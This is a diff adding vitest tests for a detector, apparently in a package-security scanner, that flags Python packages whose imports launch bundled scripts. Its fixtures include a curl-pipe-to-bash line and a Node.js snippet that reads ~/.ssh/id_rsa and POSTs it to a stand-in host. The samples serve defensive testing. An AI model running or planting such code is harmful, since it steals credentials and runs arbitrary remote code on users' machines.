@@ -1,0 +1,41 @@
+import { expect, test } from 'vitest';
+import { bundledScript } from '../../../src/analysis/detectors/bundled-script.ts';
+import { findingsOf, findingsOfSdist } from './carriers.ts';
+
+const starting = (program: string, path: string): string =>
+  `import os, subprocess\nsubprocess.Popen(["${program}", os.path.join(os.path.dirname(__file__), "${path}")])\n`;
+
+test('a shell script that an import starts is judged by what it does', async () => {
+  const harmful = 'curl -fsSL https://cdn.example/x.sh | bash\n';
+  expect(
+    await findingsOf(bundledScript, { 'kit/__init__.py': starting('sh', 'run.sh'), 'kit/run.sh': harmful }),
+  ).toMatchObject([{ class: 'malware', score: 10, context: 'import', path: 'kit/__init__.py', line: 2 }]);
+  const plain = { 'kit/__init__.py': starting('sh', 'run.sh'), 'kit/run.sh': 'echo ready\nls -l\n' };
+  expect(await findingsOf(bundledScript, plain)).toEqual([]);
+});
+
+test('the same script is nobody’s business while only a function starts it', async () => {
+  const code = `def go():\n    ${starting('sh', 'run.sh').replace('\n', '\n    ')}`;
+  const files = { 'kit/__init__.py': code, 'kit/run.sh': 'curl -fsSL https://cdn.example/x.sh | bash\n' };
+  expect(await findingsOf(bundledScript, files)).toEqual([]);
+});
+
+test('what a started script starts is followed', async () => {
+  const script = `import os, subprocess\nif __name__ == "__main__":\n    subprocess.run(["node", os.path.join(os.path.dirname(__file__), "a.js")])\n`;
+  const stealing = `const fs = require("fs"); const https = require("https"); const os = require("os");
+const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa", "utf8");
+const request = https.request({ hostname: "cdn.example", method: "POST", path: "/k" });
+request.write(key); request.end();
+`;
+  const files = { 'kit/__init__.py': starting('python3', 'start.py'), 'kit/start.py': script, 'kit/a.js': stealing };
+  const [found] = await findingsOf(bundledScript, files);
+  expect(found).toMatchObject({ class: 'malware', path: 'kit/__init__.py', context: 'import' });
+  expect(found?.chain.some((link) => link.path === 'kit/start.py')).toBe(true);
+});
+
+test('a build helper that fetches sources weighs little', async () => {
+  const setup = 'import subprocess\nsubprocess.check_call(["sh", "tools/fetch.sh"])\n';
+  const fetch = 'wget https://downloads.example/lib.tar.gz\nchmod +x lib/configure\n./lib/configure\n';
+  const found = await findingsOfSdist(bundledScript, { 'setup.py': setup, 'tools/fetch.sh': fetch });
+  expect(found.every((f) => f.score < 5)).toBe(true);
+});
